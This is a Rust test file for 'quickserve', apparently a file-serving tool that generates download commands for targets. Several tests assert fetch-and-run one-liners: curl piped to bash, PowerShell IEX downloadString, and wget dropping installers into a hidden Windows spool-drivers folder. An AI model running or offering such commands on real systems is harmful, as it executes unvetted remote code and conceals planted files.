use quickserve::asset::{
    categorize, copied_notice, download_command, listen_address, resolve_asset, server_address,
    serving_banner, suggest_download, AssetCategory, AssetKind,
};
use quickserve::config::{AliasTable, Config};

fn config_with_alias(name: &str, target: &str) -> Config {
    let mut alias = AliasTable::new();
    alias.insert(name.to_string(), target.to_string());
    Config { bind: String::new(), alias, fallback_ports: vec![] }
}

#[test]
fn asset_is_resolved_through_the_alias_table() {
    let config = config_with_alias("tool", "/opt/tools/tool.sh");
    let asset = resolve_asset(&config, &"tool".to_string(), |path| {
        assert_eq!(path, "/opt/tools/tool.sh");
        AssetKind::File
    });
    assert_eq!(asset.original, "tool");
    assert_eq!(asset.aliased, "/opt/tools/tool.sh");
    assert_eq!(asset.path, "/opt/tools/tool.sh");
    assert_eq!(asset.kind, AssetKind::File);
}

#[test]
fn asset_without_alias_keeps_its_name() {
    let config = config_with_alias("tool", "/opt/tools/tool.sh");
    let asset = resolve_asset(&config, &"./public".to_string(), |_| AssetKind::Directory);
    assert_eq!(asset.original, "./public");
    assert_eq!(asset.aliased, "./public");
    assert_eq!(asset.path, "./public");
    assert_eq!(asset.kind, AssetKind::Directory);
}

#[test]
fn asset_that_names_nothing_is_missing() {
    let asset = resolve_asset(&Config::empty(), &"nowhere".to_string(), |_| AssetKind::Missing);
    assert_eq!(asset.kind, AssetKind::Missing);
}

#[test]
fn category_follows_the_ending() {
    assert_eq!(categorize("run.sh"), AssetCategory::ShellScript);
    assert_eq!(categorize("/tmp/a.b/run.ps1"), AssetCategory::PowerShellScript);
    assert_eq!(categorize("setup.exe"), AssetCategory::Installer);
    assert_eq!(categorize("setup.msi"), AssetCategory::Installer);
    assert_eq!(categorize("notes.txt"), AssetCategory::Other);
    assert_eq!(categorize("archive"), AssetCategory::Other);
    assert_eq!(categorize(""), AssetCategory::Other);
}

#[test]
fn category_is_case_sensitive_and_looks_at_the_end_only() {
    assert_eq!(categorize("RUN.SH"), AssetCategory::Other);
    assert_eq!(categorize("run.sh.txt"), AssetCategory::Other);
    assert_eq!(categorize(".sh"), AssetCategory::ShellScript);
}

#[test]
fn download_command_for_each_category() {
    let addr = "http://192.168.1.10:8080";
    assert_eq!(
        download_command(AssetCategory::ShellScript, addr, "run.sh"),
        "curl -k -s http://192.168.1.10:8080 | bash"
    );
    assert_eq!(
        download_command(AssetCategory::PowerShellScript, addr, "run.ps1"),
        "IEX(New-Object Net.Webclient).downloadString(\"http://192.168.1.10:8080\")"
    );
    assert_eq!(
        download_command(AssetCategory::Installer, addr, "setup.exe"),
        "wget http://192.168.1.10:8080 -O \\Windows\\system32\\spool\\drivers\\color\\setup.exe"
    );
    assert_eq!(
        download_command(AssetCategory::Other, addr, "notes.txt"),
        "wget http://192.168.1.10:8080 -O /tmp/notes.txt"
    );
}

#[test]
fn suggestion_reads_the_category_off_the_path() {
    assert_eq!(
        suggest_download("/srv/files/setup.msi", "https://1.2.3.4:443", "setup.msi"),
        "wget https://1.2.3.4:443 -O \\Windows\\system32\\spool\\drivers\\color\\setup.msi"
    );
    assert_eq!(suggest_download("x.sh", "http://h:1", "x.sh"), "curl -k -s http://h:1 | bash");
}

#[test]
fn server_address_has_scheme_host_and_port() {
    assert_eq!(server_address(false, "192.168.1.10", 8080), "http://192.168.1.10:8080");
    assert_eq!(server_address(true, "203.0.113.7", 443), "https://203.0.113.7:443");
}

#[test]
fn listen_address_has_ip_and_port() {
    assert_eq!(listen_address("0.0.0.0", 8000), "0.0.0.0:8000");
    assert_eq!(listen_address("192.168.1.10", 65535), "192.168.1.10:65535");
}

#[test]
fn serving_banner_shows_the_asset_in_yellow() {
    assert_eq!(
        serving_banner("script.sh", "http://192.168.1.10:8080"),
        "Serving \u{1b}[33mscript.sh\u{1b}[0m at http://192.168.1.10:8080"
    );
}

#[test]
fn copied_notice_shows_the_command_in_blue() {
    assert_eq!(
        copied_notice("wget http://h:1 -O /tmp/a"),
        "Copied '\u{1b}[34mwget http://h:1 -O /tmp/a\u{1b}[0m' to clipboard"
    );
}
